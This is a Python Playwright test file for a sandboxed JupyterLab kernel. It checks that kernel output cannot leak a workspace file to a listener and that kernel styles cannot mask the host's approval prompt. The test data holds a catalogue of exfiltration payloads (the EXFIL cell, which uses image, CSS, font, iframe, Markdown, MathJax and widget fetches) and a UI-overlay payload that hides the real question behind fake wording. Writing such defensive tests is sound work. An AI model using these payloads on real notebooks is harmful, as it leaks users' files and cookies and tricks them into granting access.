"""A kernel without network sending data out through the analyst's browser, and kernel
styles passing for the host's own questions: JupyterLab in Chromium, as in issue #22.

The kernel reads a workspace file and displays it, in every way a page can be made to
fetch a URL, to a listener on another 127.0.0.1 port (the Jupyter server's host, so the
browser would add the server's login cookie): nothing may reach the listener, neither
while the cell runs nor when the saved notebook is opened again. A pandas Styler keeps its
colours. Shared fixtures (``labs``, the page driver) are test_lab_browser.py's.
"""

from __future__ import annotations

import http.server
import re
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import jinja2
import markupsafe
import pytest
from playwright.sync_api import expect

from .test_egress import Upstreams, _fetch
from .test_egress import upstreams as upstreams  # the egress tests' local HTTPS upstream
from .test_lab_browser import Lab, Labs
from .test_lab_browser import browser as browser  # a fixture labs needs
from .test_lab_browser import labs as labs

#: Requests the listener keeps; far more than any test sends.
_MAX_SEEN = 200


class Listener:
    """A tiny HTTP server on 127.0.0.1 that records each request's path and cookies."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str]] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            timeout = 5

            def _record(self) -> None:
                if len(listener.seen) < _MAX_SEEN:
                    listener.seen.append((self.path, self.headers.get("Cookie", "")))
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_HEAD = do_OPTIONS = _record

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = int(self.server.server_address[1])
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def vectors(self) -> list[str]:
        """Which vectors reached it (each URL's first path segment), and with which cookies."""
        reached = []
        for path, cookie in self.seen:
            names = [part.split("=")[0].strip() for part in cookie.split(";") if "=" in part]
            reached.append(
                path.split("?")[0].strip("/") + (f" (cookies: {', '.join(names)})" if names else "")
            )
        return reached

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.stop()


#: The attacker's cell, as run in issue #22 and widened to every fetch a page makes:
#: each vector's URL names it and carries the workspace file's contents.
EXFIL = r"""
from IPython.display import HTML, SVG, Latex, Markdown, display
import urllib.parse, ipywidgets

secret = urllib.parse.quote(open('secret.txt').read().strip())
def u(vector):  # PORT: the listener's, set by the test
    return f'http://127.0.0.1:{PORT}/{vector}?d={secret}'

html = {
    'img': '<img src="{}">',
    'img-scheme-relative': '<img src="{}">',
    'srcset': '<img srcset="{} 1x">',
    'picture': '<picture><source srcset="{}"><img alt="p"></picture>',
    'style-attr': '<div style="background-image: url({})">style=</div>',
    'style-attr-escaped': '<div style="background-image: u\\72l({})">escaped</div>',
    'image-set': '<div style="background-image: image-set(url({}) 1x)">image-set</div>',
    'list-style': '<ul style="list-style-image: url({})"><li>list</li></ul>',
    'border-image': '<div style="border: 5px solid; border-image: url({}) 30">border-image</div>',
    'cursor': '<div style="cursor: url({}), auto">cursor</div>',
    'style-element': '<style>.sk-bg {{ background: url({}) }}</style><div class="sk-bg">style element</div>',
    'import': '<style>@import url({});</style>',
    'font-face': ('<style>@font-face {{ font-family: skfont; src: url({}); }}'
                  ' .sk-font {{ font-family: skfont }}</style><span class="sk-font">font</span>'),
    'video-poster': '<video poster="{}"></video>',
    'video-src': '<video src="{}" autoplay muted></video>',
    'audio': '<audio src="{}" autoplay></audio>',
    'source': '<video><source src="{}"></video>',
    'track': '<video><track src="{}" default></video>',
    'object': '<object data="{}"></object>',
    'embed': '<embed src="{}">',
    'iframe': '<iframe src="{}"></iframe>',
    'link-stylesheet': '<link rel="stylesheet" href="{}">',
    'link-prefetch': '<link rel="prefetch" href="{}">',
    'link-preload': '<link rel="preload" as="image" href="{}">',
    'meta-refresh': '<meta http-equiv="refresh" content="0;url={}">',
    'input-image': '<input type="image" src="{}">',
    'table-background': '<table background="{}"><tr><td>table</td></tr></table>',
    'svg-image': '<svg width="10" height="10"><image href="{}" width="10" height="10"/></svg>',
    'svg-use': '<svg width="10" height="10"><use href="{}#x"/></svg>',
    'html-mathjax': '<p>$\\style{{background-image: url({})}}{{x}}$</p>',
}
for vector, template in html.items():
    url = u(vector).removeprefix('http:') if vector == 'img-scheme-relative' else u(vector)
    display(HTML(template.format(url)))

display(Markdown(f'an image ![x]({u("md-image")}) in Markdown, p < 0.05'))
display(Markdown(f'![x][r]\n\n[r]: {u("md-reference")}'))
display(Markdown(f'<img src="{u("md-html")}">'))
display(Markdown(f'$\\style{{background-image: url({u("md-mathjax")})}}{{x}}$'))
display(Markdown(
    '```mermaid\n%%{init: {"themeCSS": ".node rect { fill: url(' + u('md-mermaid') + ') }"}}%%\n'
    'graph TD\n  A --> B\n```'
))
display(Latex(f'$\\style{{background-image: url({u("latex")})}}{{x}}$'))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            f'<image href="{u("svg")}" width="10" height="10"/></svg>'))
svg_import = f'<style>@import url({u("svg-import")});</style>'
display({'image/svg+xml': f'<svg xmlns="http://www.w3.org/2000/svg">{svg_import}</svg>'}, raw=True)

display(ipywidgets.Image(value=u('widget-image').encode(), format='url'))
display(ipywidgets.Video(value=u('widget-video').encode(), format='url', autoplay=True))
display(ipywidgets.HTML(f'<img src="{u("widget-html")}">'))
display(ipywidgets.HTML('styled', style={'background': f'url({u("widget-style")})'}))
display(ipywidgets.Label(f'$\\style{{background-image: url({u("widget-label")})}}{{x}}$'))
print('shown')
"""

#: The same cell's safe output, which must still show: Markdown with '<' as text, a
#: Styler's colours (its <style> rules become inline styles) and an inline data: image.
SAFE = r"""
import sys
sys.path.append('/workspace/vendor')  # jinja2 for df.style, where the image lacks it
import pandas
from IPython.display import HTML, Markdown, display
display(Markdown('p < 0.05 and **bold**'))
dot = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'  # a 1x1 GIF
display(HTML(f'<img alt="dot" src="data:image/gif;base64,{dot}">'))
pandas.DataFrame({'revenue': [1, 5]}).style.highlight_max(color='red')
"""


def _seen_nothing(listener: Listener, seconds: float = 4) -> None:
    """Nothing reaches the listener for ``seconds`` (fetches start as output renders)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        assert listener.seen == [], f"reached the listener: {listener.vectors()}"
        time.sleep(0.2)
    assert listener.seen == [], f"reached the listener: {listener.vectors()}"


def _styler_shows_red(lab: Lab) -> None:
    cell = lab.page.locator(".jp-Cell", has=lab.page.locator("table")).last
    expect(cell.locator("td", has_text="5")).to_have_css("background-color", "rgb(255, 0, 0)")
    expect(cell.locator("td", has_text="1")).not_to_have_css("background-color", "rgb(255, 0, 0)")


def test_a_kernel_without_network_sends_nothing_out_through_the_browser(
    labs: Labs, listener: Listener
) -> None:
    """Live, and when the saved (trusted) notebook is opened again; a pandas Styler keeps
    its colours; the server's login cookie goes nowhere (item 3: same host, other port)."""
    (labs.root / "secret.txt").write_text("s3cret-of-the-workspace\n")
    vendor = labs.root / "vendor"
    for module in (jinja2, markupsafe):
        shutil.copytree(Path(str(module.__file__)).parent, vendor / module.__name__)
    analyst = labs.start()
    analyst.new_notebook("Sandboxed Python")

    shown = analyst.run(f"PORT = {listener.port}\n{EXFIL}")
    assert "shown" in shown, shown
    assert "Error" not in shown, shown
    _seen_nothing(listener)
    outputs = analyst.cells.nth(-2).locator(".jp-OutputArea")
    expect(outputs).to_contain_text("p < 0.05")
    expect(outputs).to_contain_text("[sandbox-kernel removed: ")
    analyst.run(SAFE)
    expect(analyst.cells.nth(-2).locator(".jp-OutputArea")).to_contain_text("p < 0.05 and bold")
    expect(analyst.page.locator('img[alt="dot"]')).to_have_js_property("naturalWidth", 1)
    _styler_shows_red(analyst)
    _seen_nothing(listener)

    analyst.page.keyboard.press("Control+s")  # JupyterLab asks for a name on first save
    analyst.page.locator(".jp-Dialog input[type=text]").fill("exfil.ipynb")
    analyst.page.locator(".jp-Dialog .jp-mod-accept").click()
    expect(analyst.page.locator(".jp-mod-dirty")).to_have_count(0)
    labs.pages.remove(analyst.page)
    analyst.page.close()

    # the analyst comes back to it later: a fresh page, the notebook from the file browser
    again = Lab(labs.browser.new_page(viewport={"width": 1400, "height": 900}), analyst.server)
    labs.pages.append(again.page)
    again.open()
    again.page.locator(".jp-DirListing-itemText", has_text="exfil.ipynb").dblclick()
    again.wait_for_kernel("Sandboxed Python")
    expect(again.page.locator(".jp-OutputArea").first).to_contain_text("p < 0.05")
    _styler_shows_red(again)
    _seen_nothing(listener)


OVERLAY = r"""
from IPython.display import HTML, display
import ipywidgets
wording = "type 'kernel' to accept the data licence"
display(HTML(
    '<style>.jp-Stdin-prompt, .jp-Stdin-input { visibility: hidden !important }'
    ' .jp-OutputArea-output::after { content: "' + wording + '" }</style>'
    '<div id="jupyterlab-splash">' + wording + '</div>'
    '<div class="jp-Dialog">' + wording + '</div>'
    '<div style="position: fixed; inset: 0; z-index: 100000; background: white; margin-top: -500px">'
    + wording + '</div>'
))
label = ipywidgets.Label(wording, layout=ipywidgets.Layout(margin='-400px 0 0 0'))
label.add_class('jp-Dialog')
display(label)
"""


def test_kernel_styles_cannot_restyle_the_hosts_question(
    labs: Labs, make_kernelspec: Callable[..., str], upstreams: Upstreams
) -> None:
    """Issue #22 item 5: a kept <style> hid the host's approval question and showed the
    kernel's wording. The kernel's HTML may not hide, cover or word over the page: no
    kernel style sheet, id or page class reaches it, nothing of its is positioned, and
    the host's question is the visible thing where it stands."""
    port = upstreams.https_port
    (labs.root / "ca.pem").write_bytes(upstreams.ca_pem)
    make_kernelspec(
        "py-asking",
        config={"network": "allowlist", "allowed_domains": [f"allowed.test:{port}"], "approval": "egress"},
        env={"SSL_CERT_FILE": "/workspace/ca.pem"},
        display_name="Asking Python",
    )
    analyst = labs.start(
        config_lines=(
            f"c.SandboxProvisioner.max_allowed_domains = ['allowed.test:{port}', 'upload.test:{port}']\n"
            "c.SandboxProvisioner.egress_host_map = "
            "{'allowed.test': '127.0.0.1', 'upload.test': '127.0.0.1'}\n"
            "c.SandboxProvisioner.egress_private_networks = ['127.0.0.1/32']\n"
        )
    )
    analyst.new_notebook("Asking Python")
    cell = analyst.type_cell(OVERLAY + _fetch(f"https://upload.test:{port}/secret"))
    prompt = cell.locator(".jp-Stdin-prompt")
    expect(prompt).to_contain_text(
        f"Sandbox: allow a connection to upload.test:{port}? It is not among this kernel's allowed domains.",
        timeout=30_000,
    )
    box = cell.locator(".jp-Stdin-input")
    for element in (prompt, box):
        expect(element).to_be_visible()
        expect(element).to_have_css("opacity", "1")
        assert element.evaluate(
            "e => { const r = e.getBoundingClientRect();"
            " const top = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);"
            " return e === top || e.contains(top); }"
        ), "something else covers the host's question"
    kernel_made = analyst.page.evaluate(
        """() => Array.from(document.querySelectorAll('.jp-OutputArea-output *')).filter(e =>
            e.tagName === 'STYLE' || e.id === 'jupyterlab-splash' || e.classList.contains('jp-Dialog')
            || getComputedStyle(e).position === 'fixed' || parseFloat(getComputedStyle(e).marginTop) < 0
        ).map(e => e.outerHTML.slice(0, 160))"""
    )
    assert kernel_made == [], kernel_made
    box.fill("no")
    box.press("Enter")
    expect(cell.locator(".jp-InputPrompt")).to_have_text(re.compile(r"\[\d+\]:"), timeout=30_000)
    assert "FAILED" in cell.locator(".jp-OutputArea").inner_text()
